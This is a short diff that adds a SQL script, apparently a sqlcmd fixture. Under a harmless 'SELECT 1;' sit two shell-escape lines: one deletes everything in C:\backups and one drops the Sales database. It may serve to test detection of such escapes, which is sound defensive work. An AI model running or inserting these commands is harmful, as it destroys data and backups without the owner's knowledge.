@@ -1,0 +1,3 @@
+SELECT 1;
+!! del /q C:\\backups\\*
+:!! sqlcmd -Q "DROP DATABASE Sales"
